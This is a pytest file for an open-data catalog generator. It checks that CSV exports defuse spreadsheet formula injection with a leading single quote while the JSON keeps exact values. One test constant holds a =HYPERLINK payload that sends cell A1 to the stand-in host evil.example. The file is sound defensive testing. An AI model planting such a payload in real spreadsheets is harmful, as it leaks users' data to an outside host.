"""Formula injection in open data: a title like `=HYPERLINK(…)` must reach catalog.csv and cases.csv as
text a spreadsheet shows, not a live formula (OWASP: a leading single quote); catalog.json keeps the
exact value. Read back with the csv module, from the renderer's real output."""

from __future__ import annotations

import csv
import io
import json

import pytest

from generator import model
from generator.checks import validate
from generator.render import Context, exports, spreadsheet
from validator_kit import CatalogKit

SERVICE = "catalog/organizations/test-org/services/ip-consulting.yml"
CASE = "cases/test-org/ip-case.yml"
ATTACK = '=HYPERLINK("https://evil.example/?x="&A1,"点我")'


def rendered(root) -> dict[str, bytes]:
    catalog = model.build(validate(root))
    return {o.path: o.data for o in exports.render(Context(catalog=catalog, root=root, cache=root / ".cache"))}


def rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("title", [ATTACK, "+86 咨询热线", "-知识产权咨询", "@SUM(A1:A9)", "＝１＋１ 咨询", "＋知识产权", "－咨询服务",
                                   "＠全体会员"])
def test_titles_that_would_start_a_formula_are_neutralised_in_csv_and_exact_in_json(tmp_path, title):
    kit = CatalogKit(tmp_path)
    kit.edit(SERVICE, "title: 知识产权咨询", f"title: '{title}'")
    kit.edit(CASE, "title: 知识产权咨询帮助企业完成专利布局", f"title: '{title}'")
    assert validate(tmp_path).ok
    files = rendered(tmp_path)
    [entry] = [r for r in rows(files[exports.CATALOG_CSV]) if r["uid"].endswith("ip-consulting")]
    [case] = rows(files[exports.CASES_CSV])
    assert entry["title"] == case["title"] == "'" + title
    data = json.loads(files[exports.CATALOG_JSON])
    assert [s["title"] for s in data["services"]] == [title]
    assert [c["title"] for c in data["cases"]] == [title]


def test_every_text_column_is_neutralised_not_only_titles(tmp_path):
    kit = CatalogKit(tmp_path)
    kit.edit(SERVICE, "how_to_apply: 发送邮件预约。", "how_to_apply: '@预约 发送邮件'")
    kit.edit(SERVICE, "summary: 为中小企业", "summary: '-为中小企业")
    kit.edit(SERVICE, "提供专利布局和知识产权管理咨询服务。", "提供专利布局和知识产权管理咨询服务。'")
    [entry] = [r for r in rows(rendered(tmp_path)[exports.CATALOG_CSV]) if r["uid"].endswith("ip-consulting")]
    assert entry["how_to_apply"] == "'@预约 发送邮件" and entry["summary"].startswith("'-为中小企业")


def test_ordinary_text_and_numbers_are_untouched(tmp_path):
    CatalogKit(tmp_path)
    [entry] = [r for r in rows(rendered(tmp_path)[exports.CATALOG_CSV]) if r["uid"].endswith("ip-consulting")]
    assert entry["title"] == "知识产权咨询" and entry["published"] == "2025-01-10"
    assert spreadsheet.row([3, None, "a=b", "知识"]) == [3, None, "a=b", "知识"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
def test_each_trigger_owasp_names_gets_the_quote(start):
    assert spreadsheet.cell(start + "1") == "'" + start + "1"
    assert spreadsheet.row({"a": start}) == {"a": "'" + start}


def test_progress_csv_goes_through_the_same_guard(tmp_path, monkeypatch):
    from generator.render import progress

    CatalogKit(tmp_path)
    catalog = model.build(validate(tmp_path))
    monkeypatch.setattr(progress, "CSV_COLUMNS", ("=1+1",) + progress.CSV_COLUMNS[1:])
    text = progress._csv(progress.metrics.progress(catalog), progress.metrics.org_rows(catalog))
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert cells[0] == "'=1+1" and len(cells) > 10
    assert not any(cell.startswith(spreadsheet.FORMULA_STARTS) for cell in cells)


def test_the_open_data_page_says_so(tmp_path):
    CatalogKit(tmp_path)
    page = next(data.decode("utf-8") for path, data in rendered(tmp_path).items() if path.startswith("data/"))
    assert "CSV 公式注入" in page and "单引号" in page and "JSON 中的取值与条目完全一致" in page
